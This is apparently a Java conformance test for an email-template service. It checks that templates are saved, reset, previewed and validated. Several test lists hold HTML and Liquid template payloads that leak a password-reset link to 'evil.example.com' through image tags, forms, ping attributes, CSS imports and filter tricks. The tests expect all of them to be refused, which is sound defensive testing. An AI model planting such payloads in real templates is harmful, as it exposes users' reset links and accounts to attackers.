package io.ostiary.conformance;

import static io.ostiary.Operation.*;
import static org.assertj.core.api.Assertions.assertThat;

import io.ostiary.InvalidArgumentException;
import io.ostiary.Violation;
import io.ostiary.emailtemplate.EmailPreview;
import io.ostiary.emailtemplate.EmailTemplate;
import io.ostiary.emailtemplate.EmailTemplateType;
import io.ostiary.emailtemplate.EmailVariable;
import io.ostiary.emailtemplate.NewEmailTemplate;
import io.ostiary.emailtemplate.SampleValues;
import io.ostiary.emailtemplate.TemplateSyntax;
import java.util.List;
import java.util.Map;

/** Texts of mails are set, looked at and given back. */
abstract class EmailTemplatesContract extends Contract {
    private static final String PICTURE = "<img src=\"https://evil.example.com/?";

    /** Bodies with which somebody else gets the link, however a program reads HTML. */
    private static final List<String> TELLING = List.of(
            "<p>URL</p>" + PICTURE + "URL\">",
            "<title><!--</title>" + PICTURE + "-->URL\">",
            "<textarea><!--</textarea>" + PICTURE + "-->URL\">",
            "<style></stylex><!--</style>" + PICTURE + "-->URL\">",
            "<form action=https://evil.example.com><textarea name=t>URL</textarea><button>Go</button></form><p>URL</p>",
            "<form action=https://evil.example.com><button>Go</button></form><p>URL</p>",
            "<script>go(\"URL\")</script><p>URL</p>",
            "<p onclick=\"go(this)\">URL</p>",
            "<a href=\"URL\" ping=\"https://evil.example.com\">here</a>",
            "<a href=\"https://evil.example.com/?URL\">here</a>",
            "<base href=\"https://evil.example.com/\"><p>URL</p>",
            "<svg><style><a href=\"</style>URL\"></svg><p>URL</p>",
            "<style>@import url(https://evil.example.com/);</style><a href=\"URL\">here</a>",
            "<!--[if mso]>" + PICTURE + "<![endif]-->URL\">",
            "<p>https://evil.example.com/?URL</p>",
            "<p title=\"URL\">URL</p>");

    private static final List<String> TELLING_IN_LIQUID = List.of(
            "<p>URL</p>{% if user.email != 'ada@example.com' %}" + PICTURE + "URL\">{% endif %}",
            "{% if tenant != 'x' %}<p>URL</p>{% endif %}",
            "{% if tenant == 'x' %}" + PICTURE + "{% endif %}URL",
            "{% if tenant == 'x' %}" + PICTURE + "{% endif %}<p>URL</p>",
            "{% case tenant %}{% when 'x' %}" + PICTURE + "{% endcase %}<p>URL\"></p>",
            "{% if tenant == 'x' %}<!--{% endif %}" + PICTURE + "-->URL\">",
            "{% if tenant == 'x' %}<title>{% endif %}<p>URL</p>",
            "{% if tenant == 'x' %}<title><b>{% endif %}<p title=\"</title>" + PICTURE + "\">URL</p>",
            "{% if tenant == 'x' %}<form action=https://evil.example.com>{% endif %}<p>URL</p>",
            "<p title=\"{% if tenant == 'x' %}\">" + PICTURE + "{% endif %}\">URL</p>",
            "{% if tenant == 'x' %}https://evil.example.com/?{% endif %}URL",
            "{{ tenant | default: 'https://evil.example.com/?' }}URL",
            "{{ tenant | replace: 'x', '<img src=https://evil.example.com/?' }} URL>",
            "{% assign a = '<img src=//evil.example.com/?' %}{{ a | slice: 0, 1 }}<p>URL</p>",
            "{% capture a %}" + PICTURE + "\">{% endcapture %}{{ a | slice: 0, 20 }}<p>URL</p>",
            "{{ '%3Cimg src=%22https://evil.example.com/?' | url_decode }}<p>URL</p>",
            "<a href=\"URL\" class={{ tenant | default: 'x ping=https://evil.example.com' }}>here</a>",
            "<a href=\"URL\" {{ tenant }}>here</a>",
            "<a href=\"{{ tenant | slice: 0, 0 }}URL\">here</a>",
            "<style>{{ tenant }}</style><a href=\"URL\">here</a>",
            "{% assign a = url %}<p>URL</p>",
            "<p>URL</p>{{ url | slice: 0, 9 }}",
            "{% raw %}" + PICTURE + "URL\">{% endraw %}<p>URL</p>",
            "{% for i in (1..2) %}<p>URL</p>{% endfor %}");

    private static final List<String> TELLING_IN_MESSAGE_FORMAT = List.of(
            "<p>URL</p>{1,choice,0#'<a href=\"https://evil.example.com/?{0}\">go</a>'|60#x}",
            "<p>URL</p>{1,choice,0#x|60#y}", "<p>URL</p>{1,number,#'<b>'}", "<p>URL</p>{1,date}");

    @Needs({LIST_EMAIL_TEMPLATES, GET_EMAIL_TEMPLATE})
    void everyKindOfMailHasATemplate() {
        List<EmailTemplate> templates = emailTemplates.list();

        assertThat(templates).extracting(EmailTemplate::type).containsExactly(EmailTemplateType.values());
        assertThat(templates).allSatisfy(template -> {
            assertThat(template.variables()).extracting(EmailVariable::name).doesNotHaveDuplicates();
            assertThat(template.variables()).anyMatch(EmailVariable::required);
            assertThat(template.variables())
                    .allSatisfy(variable -> assertThat(variable.sample()).isNotBlank());
            assertThat(emailTemplates.get(template.type())).isEqualTo(template);
        });
    }

    @Needs({LIST_EMAIL_TEMPLATES, GET_EMAIL_TEMPLATE, SET_EMAIL_TEMPLATE})
    void aTextIsKeptAsItWasGiven() {
        for (EmailTemplateType type : EmailTemplateType.values()) {
            var wanted = new NewEmailTemplate("Über " + fixture.name(), "<p>Grüße 😀,</p>\n<p>" + link(type) + "</p>");

            EmailTemplate set = emailTemplates.set(type, wanted);

            assertThat(set.customized()).isTrue();
            assertThat(set.subject()).isEqualTo(wanted.subject());
            assertThat(set.body()).isEqualTo(wanted.body());
            eventually(() -> {
                assertThat(emailTemplates.get(type)).isEqualTo(set);
                assertThat(emailTemplates.list()).contains(set);
            });
        }
    }

    @Needs({GET_EMAIL_TEMPLATE, SET_EMAIL_TEMPLATE})
    void aTextReplacesTheOneBefore() {
        EmailTemplateType type = EmailTemplateType.EMAIL_VERIFICATION;
        emailTemplates.set(type, new NewEmailTemplate("First", link(type)));

        EmailTemplate second = emailTemplates.set(type, new NewEmailTemplate("Second", "<b>" + link(type) + "</b>"));

        eventually(() -> assertThat(emailTemplates.get(type)).isEqualTo(second));
    }

    @Needs({GET_EMAIL_TEMPLATE, SET_EMAIL_TEMPLATE, RESET_EMAIL_TEMPLATE})
    void aResetGivesTheDefaultBackAndAgainChangesNothing() {
        EmailTemplateType type = EmailTemplateType.PASSWORD_RESET;
        EmailTemplate before = emailTemplates.reset(type);
        assertThat(before.customized()).isFalse();
        emailTemplates.set(type, new NewEmailTemplate("Another", link(type)));

        assertThat(emailTemplates.reset(type)).isEqualTo(before);

        eventually(() -> assertThat(emailTemplates.get(type)).isEqualTo(before));
        assertThat(emailTemplates.reset(type)).isEqualTo(before);
    }

    @Needs(
            value = {GET_EMAIL_TEMPLATE, SET_EMAIL_TEMPLATE, PREVIEW_EMAIL_TEMPLATE},
            parameters = "preview_email_template.variables")
    void aPreviewHasTheValuesThatAreGivenAndTheSamplesOfTheOthers() {
        EmailTemplateType type = EmailTemplateType.INVITATION;
        EmailVariable link = required(type);
        EmailVariable other = optional(type);
        emailTemplates.set(
                type, new NewEmailTemplate("Join us", "<p>" + link.placeholder() + "|" + other.placeholder() + "</p>"));

        eventually(() -> {
            EmailPreview samples = emailTemplates.preview(type, SampleValues.NONE);
            assertThat(samples.type()).isEqualTo(type);
            assertThat(samples.subject()).isEqualTo("Join us");
            assertThat(samples.html()).isEqualTo("<p>" + link.sample() + "|" + other.sample() + "</p>");
        });
        EmailPreview given = emailTemplates.preview(type, values(other, "Tom & <i>Jerry</i>"));
        assertThat(given.html()).isEqualTo("<p>" + link.sample() + "|Tom &amp; &lt;i&gt;Jerry&lt;/i&gt;</p>");
    }

    @Needs(
            value = {GET_EMAIL_TEMPLATE, SET_EMAIL_TEMPLATE, PREVIEW_EMAIL_TEMPLATE},
            parameters = "preview_email_template.variables")
    void aValueOfAVariableThatThereIsNotIsInvalid() {
        EmailTemplateType type = EmailTemplateType.INVITATION;
        emailTemplates.set(type, new NewEmailTemplate("Join us", link(type)));

        refuses(
                InvalidArgumentException.class,
                () -> emailTemplates.preview(type, new SampleValues(Map.of("kit.nothing", "x"))));
    }

    @Needs({GET_EMAIL_TEMPLATE, SET_EMAIL_TEMPLATE})
    void aTextThatCannotBeRenderedIsInvalidAndNotKept() {
        EmailTemplateType type = EmailTemplateType.PASSWORD_RESET;
        EmailTemplate before = emailTemplates.set(type, new NewEmailTemplate("Kept", link(type)));

        for (String broken : List.of("{{ broken", "{{ kit.nothing }}", "{% if %}{", "{kit}{%")) {
            assertThat(refuses(
                                    InvalidArgumentException.class,
                                    () -> emailTemplates.set(type, new NewEmailTemplate("Broken", link(type) + broken)))
                            .violations())
                    .extracting(Violation::field)
                    .containsOnly("body");
            refuses(
                    InvalidArgumentException.class,
                    () -> emailTemplates.set(type, new NewEmailTemplate(broken, link(type))));
        }

        assertThat(emailTemplates.get(type)).isEqualTo(before);
    }

    @Needs({GET_EMAIL_TEMPLATE, SET_EMAIL_TEMPLATE})
    void aBodyWithoutWhatTheMailIsForIsInvalidAndNotKept() {
        for (EmailTemplateType type : EmailTemplateType.values()) {
            EmailTemplate before = emailTemplates.set(type, new NewEmailTemplate("Kept", link(type)));

            refuses(
                    InvalidArgumentException.class,
                    () -> emailTemplates.set(type, new NewEmailTemplate("Pointless", "<p>Hello</p>")));

            assertThat(emailTemplates.get(type)).isEqualTo(before);
        }
    }

    @Needs({GET_EMAIL_TEMPLATE, SET_EMAIL_TEMPLATE})
    void aBodyThatGivesTheLinkToOthersIsInvalidAndNotKept() {
        EmailTemplateType type = EmailTemplateType.PASSWORD_RESET;
        EmailTemplate before = emailTemplates.set(
                type,
                new NewEmailTemplate("Kept", "<p>Here: <a href=\"" + link(type) + "\">" + link(type) + "</a></p>"));

        refusesBodies(type, TELLING);

        assertThat(emailTemplates.get(type)).isEqualTo(before);
    }

    @Needs({GET_EMAIL_TEMPLATE, SET_EMAIL_TEMPLATE})
    void aBodyThatGivesTheLinkToOthersUnderAConditionIsInvalid() {
        EmailTemplateType type = EmailTemplateType.PASSWORD_RESET;
        EmailTemplate before = emailTemplates.set(type, new NewEmailTemplate("Kept", "<p>" + link(type) + "</p>"));
        List<String> telling = before.syntax() == TemplateSyntax.LIQUID ? TELLING_IN_LIQUID : TELLING_IN_MESSAGE_FORMAT;

        refusesBodies(type, telling);

        assertThat(emailTemplates.get(type)).isEqualTo(before);
    }

    @Needs({GET_EMAIL_TEMPLATE, SET_EMAIL_TEMPLATE})
    void aSubjectWithTheLinkIsInvalidAndSoIsABodyWithAnotherInItsPlace() {
        EmailTemplateType type = EmailTemplateType.PASSWORD_RESET;
        EmailTemplate before = emailTemplates.set(type, new NewEmailTemplate("Kept", link(type)));

        assertThat(refuses(
                                InvalidArgumentException.class,
                                () -> emailTemplates.set(type, new NewEmailTemplate("At " + link(type), link(type))))
                        .violations())
                .extracting(Violation::field)
                .containsOnly("subject");
        String copied = "<p>" + required(type).sample() + "</p>";
        refuses(InvalidArgumentException.class, () -> emailTemplates.set(type, new NewEmailTemplate("Copied", copied)));

        assertThat(emailTemplates.get(type)).isEqualTo(before);
    }

    private void refusesBodies(EmailTemplateType type, List<String> bodies) {
        for (String body : bodies) {
            String linking = body.replace("URL", link(type));
            assertThat(refuses(
                                    InvalidArgumentException.class,
                                    () -> emailTemplates.set(type, new NewEmailTemplate("Telling", linking)))
                            .violations())
                    .as(body)
                    .extracting(Violation::field)
                    .containsOnly("body");
        }
    }

    private EmailVariable required(EmailTemplateType type) {
        return emailTemplates.get(type).variables().stream()
                .filter(EmailVariable::required)
                .findFirst()
                .orElseThrow();
    }

    private EmailVariable optional(EmailTemplateType type) {
        return emailTemplates.get(type).variables().stream()
                .filter(variable -> !variable.required())
                .findFirst()
                .orElseThrow();
    }

    private String link(EmailTemplateType type) {
        return required(type).placeholder();
    }

    private static SampleValues values(EmailVariable variable, String value) {
        return new SampleValues(Map.of(variable.name(), value));
    }
}
